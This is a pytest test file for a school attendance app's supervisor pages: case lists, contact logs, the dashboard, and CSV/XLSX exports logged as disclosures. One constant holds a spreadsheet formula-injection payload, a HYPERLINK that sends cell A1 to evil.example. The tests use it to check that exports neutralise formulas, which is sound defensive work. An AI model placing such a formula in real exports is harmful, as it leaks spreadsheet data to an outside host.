"""The supervisor's lists: every case paged and filtered, the contact log with
notes and counts, exports that no spreadsheet runs and that are logged as
disclosures, and the district at a glance."""
import csv
import datetime
import io
import zipfile

import openpyxl
import pytest

from fieldapp.models import AccessLog, AttendanceEvent, Case
from fieldapp.timefmt import local_today, school_year_start
from tests import factories
from tests.web.conftest import page_text
from tests.web.test_jobs import job_id_of, wait_for

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def many_cases(world):
    """120 more open cases at school A (122 open in all, 121 at school A)."""
    students = [factories.gen_student(world["school_a"], first=f"Kid{i:03d}", last="Many") for i in range(120)]
    for student in students:
        factories.gen_case(student, world["officer"])
    return world


def test_the_case_list_is_paged_never_cut(auth, login_as, many_cases):
    login_as("supervisor")
    first = page_text(auth.client.get(f"/supervisor/cases?school={many_cases['school_a'].id}"))
    assert "Cases 1–50 of 121" in first and "Page 1 of 3" in first
    last = page_text(auth.client.get(f"/supervisor/cases?school={many_cases['school_a'].id}&page=3"))
    assert "Cases 101–121 of 121" in last and "Many, Kid119" in last
    assert "Núñez" not in first + last


def test_the_case_list_filters_by_officer_stage_flag_and_unassigned(auth, login_as, world):
    login_as("supervisor")
    Case.update(stage="conference", flags="foster_care").where(Case.id == world["case_b"].id).execute()
    assert "Núñez, José" not in page_text(auth.client.get(f"/supervisor/cases?officer={world['officer'].id}"))
    page = page_text(auth.client.get("/supervisor/cases?stage=conference&flag=foster_care"))
    assert "Núñez, José" in page and "García, María" not in page
    Case.update(officer=None).where(Case.id == world["case_a"].id).execute()
    page = page_text(auth.client.get("/supervisor/cases?officer=none"))
    assert "García, María" in page and "Núñez, José" not in page
    bad = auth.client.get("/supervisor/cases?stage=nonsense&page=x")
    assert bad.status_code == 422 and "Choose from the list." in page_text(bad)


def test_the_contact_log_shows_notes_counts_and_filters_by_student_and_reason(auth, login_as, world):
    factories.gen_contact(world["case_a"], world["officer"], reasons=["housing"], notes="Family moved in with an aunt.")
    login_as("supervisor")
    page = page_text(auth.client.get("/supervisor/contacts"))
    assert "3 contacts" in page and "Family moved in with an aunt." in page
    page = page_text(auth.client.get("/supervisor/contacts?reason=housing"))
    assert "1 contact" in page and "Family moved in" in page and "Núñez" not in page
    page = page_text(auth.client.get(f"/supervisor/contacts?student={world['student_b'].id}"))
    assert "1 contact" in page and "Núñez, José" in page and "García, María</strong>" not in page


def test_the_contact_logs_count_is_the_number_of_contacts_it_lists(world):
    """The count is taken without the rows' joins, and for a reason from the
    lists of reasons: it equals the rows the log lists, filter by filter."""
    from fieldapp.cases import contact_log
    for reasons in (["housing"], ["transportation", "housing"], ["work", "transportation"], [],
                    ["illness", "work", "housing"]):
        factories.gen_contact(world["case_a"], world["officer"], reasons=reasons)
    factories.gen_contact(world["case_b"], world["other_officer"], reasons=["housing"], method="phone")
    today = local_today()
    for filters in ({}, {"reason": "housing"}, {"reason": "transportation"}, {"reason": "work"},
                    {"reason": "academic"}, {"school": world["school_a"].id}, {"school": world["school_b"].id},
                    {"school": world["school_b"].id, "reason": "housing"}, {"officer": world["officer"].id},
                    {"reason": "housing", "method": "phone"}, {"reason": "housing", "date_from": today},
                    {"date_to": today - datetime.timedelta(days=400)}, {"student": world["student_a"].id}):
        assert contact_log.count(filters) == len(list(contact_log.matching(filters))), filters
    assert contact_log.count({"reason": "housing"}) == 4


def _export(auth, path, fmt):
    answer = auth.post(path, data={"format": fmt})
    assert answer.status_code == 200, answer.status_code
    return answer


def test_a_csv_export_quotes_formulas_and_logs_each_student(auth, login_as, world):
    factories.gen_contact(world["case_a"], world["officer"], notes=FORMULA)
    for start in ("+1", "-2", "@SUM(A1)"):
        factories.gen_contact(world["case_b"], world["other_officer"], notes=start)
    login_as("supervisor")
    answer = _export(auth, "/supervisor/export/contacts", "csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"  # said once: it read "charset=utf-8; charset=utf-8"
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    notes = {row[rows[0].index("Notes")] for row in rows[1:]}
    assert "'" + FORMULA in notes and FORMULA not in notes
    assert {"'+1", "'-2", "'@SUM(A1)"} <= notes
    logged = {(e.student_id, e.action) for e in AccessLog.select()}
    assert logged == {(world["student_a"].id, "export"), (world["student_b"].id, "export")}
    assert AccessLog.select().count() == 2  # one line per student, not per row


def test_an_xlsx_export_writes_text_cells_never_formulas(auth, login_as, world, start_worker):
    start_worker("sqlite")
    factories.gen_contact(world["case_a"], world["officer"], notes=FORMULA)
    login_as("supervisor")
    job = wait_for(auth.client, job_id_of(auth.post("/supervisor/export/contacts", data={"format": "xlsx"})))
    answer = auth.client.get(f"/jobs/{job.id}/spreadsheet")
    assert answer.status_code == 200, job.reason
    book = zipfile.ZipFile(io.BytesIO(answer.get_data()))
    assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    sheet = openpyxl.load_workbook(io.BytesIO(answer.get_data())).active
    column = [c.value for c in sheet[1]].index("Notes")
    notes = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert FORMULA in [c.value for c in notes]
    assert all(c.data_type == "s" and c.quotePrefix for c in notes if c.value == FORMULA)


def test_the_case_export_follows_the_filters_on_screen(auth, login_as, many_cases):
    login_as("supervisor")
    answer = _export(auth, f"/supervisor/export/cases?school={many_cases['school_b'].id}", "csv")
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r[3:5] for r in rows[1:]] == [["Núñez", "José"]]
    assert AccessLog.select().where(AccessLog.action == "export").count() == 1
    whole = _export(auth, "/supervisor/export/cases", "csv")
    assert len(whole.get_data(as_text=True).strip().splitlines()) == 1 + 122


def test_only_a_supervisor_exports(auth, login_as, world):
    for role in ("officer", "front_office", "admin"):
        login_as(role)
        answer = auth.post("/supervisor/export/cases", data={"format": "csv"})
        assert answer.status_code == 403, role
    assert not AccessLog.select().where(AccessLog.action == "export").exists()


def test_the_district_at_a_glance_counts_and_links(auth, login_as, world):
    first_day = school_year_start(local_today())
    # Student A misses enough days to be severely chronically absent.
    for n in range(40):
        day = local_today() - datetime.timedelta(days=n)
        if day >= first_day and day.weekday() < 5:
            AttendanceEvent.create(student=world["student_a"], school=world["school_a"], date=day,
                                   category="unexcused")
    Case.update(officer=None).where(Case.id == world["case_b"].id).execute()
    login_as("supervisor")
    page = page_text(auth.client.get("/supervisor"))
    assert "Lincoln Elementary" in page and "Roosevelt Middle" in page
    assert f'href="/supervisor/cases?school={world["school_a"].id}">1<' in page
    assert f'/supervisor/unassigned?school={world["school_b"].id}">1<' in page
    assert "Students by chronic-absence band, by school" in page and "<svg" in page
    assert "Transportation" in page  # the reason recorded in both contacts
    assert "/supervisor/contacts?reason=transportation" in page
    severe = page_text(auth.client.get(f"/supervisor/students?band=severe&school={world['school_a'].id}"))
    assert "García, María" in severe
    assert "García, María" not in page_text(auth.client.get("/supervisor/students?band=satisfactory"))


def test_each_bands_number_under_a_schools_bar_says_its_band_in_words(auth, login_as, world):
    """Not by colour alone: on a phone the legend may be a screen away."""
    login_as("supervisor")
    page = page_text(auth.client.get("/supervisor"))
    numbers = page[page.index('class="bar-numbers"'):]
    numbers = numbers[:numbers.index("</li>")]
    for short in ("Satisfactory", "At risk", "Moderate", "Severe"):
        assert f'aria-hidden="true">{short}</span>' in numbers
